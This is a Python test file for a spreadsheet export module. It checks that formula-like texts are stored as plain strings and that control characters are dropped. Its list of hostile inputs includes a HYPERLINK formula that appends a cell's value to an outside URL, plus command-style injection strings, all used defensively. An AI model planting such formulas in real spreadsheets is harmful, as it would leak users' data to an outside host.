"""core.excel: every text is written as text, exactly as typed, and control characters never
break a workbook."""

from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from lianxin.core.excel import safe_row, text_cell, xlsx_response

# Texts a spreadsheet would run or read as something else if they were written as they are.
HOSTILE = ['=HYPERLINK("http://e.cn/"&L2)', "+cmd", "-1+2", "@SUM(1)", "=1+1", "#N/A", "#DIV/0!"]


def read_cells(content: bytes) -> list[list]:
    sheet = load_workbook(BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_looks_like_a_formula_is_written_as_that_exact_text(text: str) -> None:
    # given a row whose text starts as a formula or an error value would
    # when it is exported
    response = xlsx_response(filename="x.xlsx", sheet="s", headers=[text], rows=[[text, 1]])
    # then both the header and the cell read back as a string with exactly that text
    header, row = read_cells(response.content)
    for cell in (header[0], row[0]):
        assert cell.data_type == "s"
        assert cell.value == text
    assert row[1].value == 1


def test_control_characters_are_dropped_and_the_workbook_stays_valid() -> None:
    # given texts holding control characters, as rows stored before inputs stripped them may
    rows = [["加班\x01费", "=\x1bcmd", "第一行\n第二行\t尾"]]
    # when exported
    response = xlsx_response(
        filename="x\x00.xlsx", sheet="台\x07账", headers=["标\x0b题"] * 3, rows=rows
    )
    # then the workbook opens and each text lost only its control characters
    book = load_workbook(BytesIO(response.content))
    header, row = [list(r) for r in book.active.iter_rows()]
    assert header[0].value == "标题"
    assert [c.value for c in row] == ["加班费", "=cmd", "第一行\n第二行\t尾"]
    assert row[1].data_type == "s"
    assert book.active.title == "台账"


def test_safe_row_keeps_numbers_dates_and_blanks_as_they_are() -> None:
    # given a streaming sheet and a row mixing types
    book = Workbook(write_only=True)
    ws = book.create_sheet("s")
    # when prepared / then only texts change form
    assert safe_row(ws, [1, 2.5, None, "普通文字"]) == [1, 2.5, None, "普通文字"]
    cell = text_cell(ws, "=1")
    assert (cell.value, cell.data_type) == ("=1", "s")
